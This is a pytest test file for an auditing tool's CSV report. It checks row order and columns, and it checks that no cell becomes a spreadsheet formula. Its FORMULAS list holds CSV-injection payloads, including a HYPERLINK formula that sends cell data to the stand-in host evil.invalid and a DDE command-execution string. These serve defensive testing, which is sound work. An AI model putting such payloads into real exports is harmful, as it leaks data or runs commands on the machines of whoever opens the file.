"""The CSV report: a row for each item, and no cell that a spreadsheet would calculate."""

from __future__ import annotations

import csv
import io
import re
from dataclasses import replace

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from auditor.formats.text import csv_rows
from auditor.model.report import Report
from auditor.report.csv_table import COLUMNS
from auditor.report.registry import render

from .sample import HOSTILE, report
from .sample_parts import WAIVER

FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://evil.invalid/?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "＝1+1",
    'x";=1+1;"',
    "x; @y",
    "\u200b=1",
)


def rows(made: Report) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(render("csv", made), newline=""), strict=True))


def named(made: Report, number: str) -> dict[str, str]:
    (row,) = [r for r in rows(made) if r["number"] == number]
    return row


def test_there_is_a_row_for_each_item_in_the_order_of_the_checklist(sample: Report) -> None:
    made = rows(sample)
    assert [r["id"] for r in made] == [v.item.id for v in sample.verdicts()]
    assert [r["verdict"] for r in made] == [v.outcome.value for v in sample.verdicts()]
    assert tuple(made[0]) == COLUMNS


def test_our_own_reader_reads_it(sample: Report) -> None:
    read = list(csv_rows.rows(render("csv", sample).encode(), "The report"))
    assert len(read) == 27
    assert {len(fields) for _, fields in read} == {len(COLUMNS)}


def test_a_row_tells_why_where_and_what_next(sample: Report) -> None:
    row = named(sample, "3.1.3")
    assert row["title"] == "The static security scan is clean"
    assert (row["severity"], row["verdict"], row["level"]) == ("blocker", "fail", "reported")
    assert row["reason"] == "Findings of high severity: 2 (wanted 0)"
    assert row["locations"] == "orders/search.py:88, orders/search.py:97"
    assert row["next_step"] == "Parameterise the query."
    assert (row["effort_h"], row["blocks"]) == ("2", "yes")


def test_an_unknown_blocker_blocks_and_a_waived_one_does_not(sample: Report) -> None:
    assert named(sample, "5.3.3")["blocks"] == "yes"
    waived = named(sample, "4.1.3")
    assert waived["verdict"] == "unknown"
    assert waived["blocks"] == "no"
    assert (waived["waived_by"], waived["waived_until"]) == (WAIVER.owner, WAIVER.expires)


def calculated(cell: str) -> bool:
    """Whether a spreadsheet takes the cell, or what follows a semicolon in it, as a formula."""
    return any(re.match(r"\s*[=+\-@＝＋－＠|\t\r]", part) for part in cell.split(";"))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_is_shown_and_never_calculated(formula: str) -> None:
    made = replace(report(formula), target=replace(report().target, service=formula))
    cells = [cell for row in rows(made) for cell in row.values()]
    assert not [cell for cell in cells if calculated(cell)]
    assert all(row["service"].startswith(("'", "\\", "x")) for row in rows(made))


@pytest.mark.parametrize("hostile", HOSTILE)
def test_a_hostile_name_adds_no_row_and_no_column(hostile: str) -> None:
    made = rows(report(hostile))
    assert len(made) == 26
    assert all(set(row) == set(COLUMNS) and None not in row.values() for row in made)


@settings(max_examples=80, deadline=None)
@given(st.text(st.sampled_from("=+-@;,\"'\t\r\n |x＝\x1b\udc80"), max_size=20)
       | st.text(st.characters(), max_size=30))  # fmt: skip
def test_no_name_becomes_a_formula_or_reaches_a_terminal(hostile: str) -> None:
    made = report(hostile)
    made = replace(made, target=replace(made.target, service=hostile))
    text = render("csv", made)
    assert all(char.isprintable() or char == "\n" for char in text)
    read = rows(made)
    assert len(read) == 26
    assert not [cell for row in read for cell in row.values() if calculated(cell)]
